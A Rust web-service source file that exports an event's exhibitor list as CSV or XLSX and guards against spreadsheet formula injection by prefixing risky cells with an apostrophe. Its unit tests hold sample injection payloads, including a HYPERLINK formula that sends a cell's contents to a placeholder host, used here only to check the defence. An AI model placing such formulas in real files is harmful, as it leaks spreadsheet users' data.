//! Exhibitor lists for organizers: `GET /events/{id}/exhibitors.csv` and
//! `.xlsx`, authorized with the same bearer token as GraphQL.

use std::sync::Arc;

use axum::extract::{Path, State};
use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use coopbridge_domain::Error;
use coopbridge_domain::fairs::exports::{EXHIBITOR_COLUMNS, exhibitor_table};

use super::AppState;
use super::graphql::{error_response as refused, request_actor};

#[derive(Clone, Copy)]
enum Format {
    Csv,
    Xlsx,
}

pub async fn exhibitors_csv(state: State<Arc<AppState>>, id: Path<String>, headers: HeaderMap) -> Response {
    export(state, id, headers, Format::Csv).await
}

pub async fn exhibitors_xlsx(state: State<Arc<AppState>>, id: Path<String>, headers: HeaderMap) -> Response {
    export(state, id, headers, Format::Xlsx).await
}

async fn export(
    State(state): State<Arc<AppState>>,
    Path(id): Path<String>,
    headers: HeaderMap,
    format: Format,
) -> Response {
    let actor = match request_actor(&state, &headers).await {
        Ok((actor, _)) => actor,
        Err(response) => return response,
    };
    let Some(event_id) = id.parse::<i32>().ok().filter(|n| *n > 0) else {
        return refused(StatusCode::NOT_FOUND, "NOT_FOUND", "no event has this id");
    };
    let (event, rows) = match exhibitor_table(&state.db, &actor, event_id).await {
        Ok(table) => table,
        Err(Error::Unauthenticated) => {
            return refused(
                StatusCode::UNAUTHORIZED,
                "UNAUTHENTICATED",
                "send Authorization: Bearer <token>",
            );
        }
        Err(Error::Forbidden { .. }) => {
            return refused(
                StatusCode::FORBIDDEN,
                "FORBIDDEN",
                "only the event's organizers export its list",
            );
        }
        Err(Error::Invalid(_) | Error::NotFound { .. }) => {
            return refused(StatusCode::NOT_FOUND, "NOT_FOUND", "no event has this id");
        }
        Err(e) => {
            tracing::error!(error = %e, "exhibitor export failed");
            return refused(StatusCode::INTERNAL_SERVER_ERROR, "INTERNAL", "internal error");
        }
    };
    let (bytes, content_type, extension) = match format {
        Format::Csv => (to_csv(&rows).into_bytes(), "text/csv; charset=utf-8", "csv"),
        Format::Xlsx => match to_xlsx(&event.title, &rows) {
            Ok(bytes) => (
                bytes,
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                "xlsx",
            ),
            Err(e) => {
                tracing::error!(error = %e, "writing the workbook failed");
                return refused(StatusCode::INTERNAL_SERVER_ERROR, "INTERNAL", "internal error");
            }
        },
    };
    let mut response = bytes.into_response();
    let h = response.headers_mut();
    h.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    h.insert(header::CACHE_CONTROL, HeaderValue::from_static("private, no-store"));
    if let Ok(value) = HeaderValue::from_str(&format!(
        "attachment; filename=\"exhibitors-event-{}.{extension}\"",
        event.id
    )) {
        h.insert(header::CONTENT_DISPOSITION, value);
    }
    response
}

/// A cell a spreadsheet would read as a formula (OWASP "CSV injection"):
/// one that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, or
/// the full-width `＝＋－＠` that some spreadsheets also accept. A cooperative
/// named `=HYPERLINK(…)` must reach the organizer as text, not as a live link
/// that sends other cells away.
fn looks_like_formula(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

fn csv_field(value: &str) -> String {
    // A leading apostrophe makes the spreadsheet take the rest as text.
    let neutral;
    let value = if looks_like_formula(value) {
        neutral = format!("'{value}");
        neutral.as_str()
    } else {
        value
    };
    if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_owned()
    }
}

/// RFC 4180 with CRLF, and a byte-order mark so Excel reads it as UTF-8
/// (diacritics intact).
fn to_csv(rows: &[Vec<String>]) -> String {
    let mut out = String::from("\u{feff}");
    let header: Vec<String> = EXHIBITOR_COLUMNS.iter().map(|c| csv_field(c)).collect();
    out.push_str(&header.join(","));
    out.push_str("\r\n");
    for row in rows {
        let cells: Vec<String> = row.iter().map(|c| csv_field(c)).collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

fn to_xlsx(title: &str, rows: &[Vec<String>]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{Format as CellFormat, Workbook};
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("Exhibitors")?;
    let bold = CellFormat::new().set_bold();
    sheet.write_string_with_format(0, 0, title, &bold)?;
    for (col, name) in EXHIBITOR_COLUMNS.iter().enumerate() {
        sheet.write_string_with_format(2, col as u16, *name, &bold)?;
    }
    for (r, row) in rows.iter().enumerate() {
        for (col, cell) in row.iter().enumerate() {
            let at = (r as u32 + 3, col as u16);
            // Counts are numbers so organizers can sum them; codes stay
            // text. Everything else is written as a string, never as a
            // formula, so no cell here needs the CSV's apostrophe.
            match (col, cell.parse::<f64>()) {
                (0 | 5, Ok(n)) => sheet.write_number(at.0, at.1, n)?,
                _ => sheet.write_string(at.0, at.1, cell)?,
            };
        }
    }
    sheet.set_column_width(1, 40)?;
    sheet.set_column_width(3, 20)?;
    sheet.set_column_width(8, 28)?;
    workbook.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_commas_quotes_and_line_breaks() {
        let rows = vec![vec!["1".into(), "HTX \"Quyết Thắng\", Quảng Trị".into(), "a\nb".into()]];
        let csv = to_csv(&rows);
        assert!(csv.starts_with('\u{feff}'));
        assert!(csv.contains("1,\"HTX \"\"Quyết Thắng\"\", Quảng Trị\",\"a\nb\"\r\n"));
    }

    #[test]
    fn csv_cells_that_start_like_formulas_get_an_apostrophe() {
        for (cell, written) in [
            ("=1+1", "'=1+1"),
            ("+84912345678", "'+84912345678"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("＝1+1", "'＝1+1"),
            (
                "=HYPERLINK(\"http://x\"&A1,\"y\")",
                "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"y\"\")\"",
            ),
            ("HTX a=b", "HTX a=b"),
            ("0912345678", "0912345678"),
        ] {
            assert_eq!(csv_field(cell), written, "{cell:?}");
        }
    }
}
